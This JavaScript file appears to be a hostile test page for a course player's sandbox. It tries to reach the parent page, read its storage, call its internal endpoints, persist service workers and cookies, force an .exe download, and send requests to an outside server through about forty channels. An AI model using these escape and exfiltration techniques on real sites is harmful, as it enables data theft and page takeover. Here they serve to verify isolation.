// @ts-nocheck -- It asks for what is not there.
/* Tries to get at the desk and out of the frame; writes onto the page what it got. */

const parameters = new URLSearchParams(location.search);
/** Another server on this machine, which counts who comes. */
const outside = parameters.get('outside');
const desk = `http://127.0.0.1:${location.port}`;
const got = [];

/** Something that must fail: what it gives, or that it is done at all, is a find. */
async function grab(what, run) {
  try {
    got.push(`${what}: ${String(await run())}`);
  } catch {
    // As it should be.
  }
}

/** Something that the other server would see. */
function knock(run) {
  try {
    void Promise.resolve(run()).catch(() => {});
  } catch {
    // As it should be.
  }
}

const out = (what) => `${outside}/${what}`;

function add(name, attributes, at = document.body) {
  const element = Object.assign(document.createElement(name), attributes);
  at.append(element);
  return element;
}

async function reachTheDesk() {
  await grab('the page of the desk', () => top.document.title);
  await grab('the records of the desk', () => top.localStorage.length);
  await grab('a desk rewritten', () => (top.document.body.innerHTML = 'Taken over'));
  await grab('an API of its own on the desk', () => (top.API = {}));
  await grab('what the desk keeps', async () => (await fetch(`${desk}/desk/registrations`)).status);
  await grab(
    'the package by the desk',
    async () => (await fetch(`${desk}/desk/package.json`)).status,
  );
  await grab('a launch at the desk', async () => {
    const answer = await fetch(`${desk}/desk/launch`, {
      method: 'POST',
      mode: 'no-cors',
      body: '{}',
    });
    return answer.type;
  });
  const framed = add('iframe', { src: `${desk}/` });
  await new Promise((resolve) => framed.addEventListener('load', resolve));
  await grab('a desk of its own', () => framed.contentDocument.title || framed.contentDocument.URL);
}

async function stayBehind() {
  await grab('a service worker', async () => {
    const { scope } = await navigator.serviceWorker.register('worker.js');
    return scope;
  });
  await grab('a service worker for the page around it', async () => {
    const { scope } = await navigator.serviceWorker.register('/package/worker.js', { scope: '/' });
    return scope;
  });
  localStorage.setItem('left', 'behind');
  document.cookie = 'left=behind; path=/; max-age=3600';
  knock(() => (document.cookie = 'left=behind; path=/; domain=localhost; max-age=3600'));
  await (await caches.open('left')).put('/package/left', new Response('behind'));
  indexedDB.open('left');
}

const INSIDE_OUT = `<img src="${out('srcdoc')}"><script>fetch("${out('srcdoc-fetch')}", { mode: 'no-cors' })</script>`;

const waysOut = {
  fetch: () => fetch(out('fetch'), { mode: 'no-cors' }),
  keepalive: () => fetch(out('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST' }),
  request: () => {
    const request = new XMLHttpRequest();
    request.open('GET', out('request'));
    request.send();
  },
  beacon: () => navigator.sendBeacon(out('beacon'), 'x'),
  socket: () => new WebSocket(out('socket').replace('http', 'ws')),
  events: () => new EventSource(out('events')),
  transport: () => new WebTransport(out('transport').replace('http', 'https')),
  image: () => (new Image().src = out('image')),
  imageSet: () => (new Image().srcset = `${out('imageSet')} 1x`),
  script: () => add('script', { src: out('script') }),
  module: () => import(out('module')),
  style: () => add('link', { rel: 'stylesheet', href: out('style') }),
  inStyle: () => (document.body.style.backgroundImage = `url(${out('inStyle')})`),
  imported: () => add('style', { textContent: `@import url(${out('imported')});` }),
  font: () => new FontFace('x', `url(${out('font')})`).load(),
  video: () => add('video', { src: out('video'), poster: out('poster'), preload: 'auto' }),
  audio: () => add('audio', { src: out('audio'), preload: 'auto' }),
  object: () => add('object', { data: out('object') }),
  embed: () => add('embed', { src: out('embed') }),
  frame: () => add('iframe', { src: out('frame') }),
  srcdoc: () => add('iframe', { srcdoc: INSIDE_OUT }),
  data: () => add('iframe', { src: `data:text/html,${encodeURIComponent(INSIDE_OUT)}` }),
  blank: () => {
    const blank = add('iframe', {});
    blank.contentWindow.fetch(out('blank'), { mode: 'no-cors' }).catch(() => {});
    blank.contentWindow.location = out('blank-gone');
  },
  refresh: () =>
    add('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${out('refresh')}">` }),
  prefetch: () => add('link', { rel: 'prefetch', href: out('prefetch') }, document.head),
  preload: () => add('link', { rel: 'preload', as: 'image', href: out('preload') }, document.head),
  modulepreload: () =>
    add('link', { rel: 'modulepreload', href: out('modulepreload') }, document.head),
  icon: () => add('link', { rel: 'icon', href: out('icon') }, document.head),
  speculation: () =>
    add('script', {
      type: 'speculationrules',
      textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [out('speculation')] }] }),
    }),
  worker: () => {
    const code = `fetch(${JSON.stringify(out('worker'))}, { mode: 'no-cors' }); importScripts(${JSON.stringify(out('workerScript'))})`;
    return new Worker(URL.createObjectURL(new Blob([code])));
  },
  form: () => post('', 'form'),
  formOnTop: () => post('_top', 'formOnTop'),
  formInWindow: () => post('_blank', 'formInWindow'),
  ping: () => {
    const link = add('a', { href: '#here', ping: out('ping') });
    link.click();
  },
  window: () => window.open(out('window')),
  link: () => add('a', { href: out('link'), target: '_blank' }).click(),
  linkOnTop: () => add('a', { href: out('linkOnTop'), target: '_top' }).click(),
  top: () => (top.location = out('top')),
  topByWord: () => top.location.replace(out('topByWord')),
  history: () => history.go(-9),
  download: () => {
    const href = URL.createObjectURL(new Blob(['x']));
    add('a', { href, download: 'x.exe' }).click();
  },
};

function post(target, what) {
  const form = add('form', { method: 'post', action: out(what), target: target || sink() });
  form.submit();
}

function sink() {
  return add('iframe', { name: `sink-${Math.random()}` }).name;
}

async function attack() {
  const { API } = parent;
  API.LMSInitialize('');
  API.LMSSetValue('cmi.suspend_data', 'page 2');
  API.LMSCommit('');
  await reachTheDesk();
  await stayBehind();
  for (const way of Object.values(waysOut)) knock(way);
  // The page of a frame that was refused loads late.
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  document.getElementById('found').textContent = got.length === 0 ? 'Got nothing' : got.join('; ');
}

void attack();
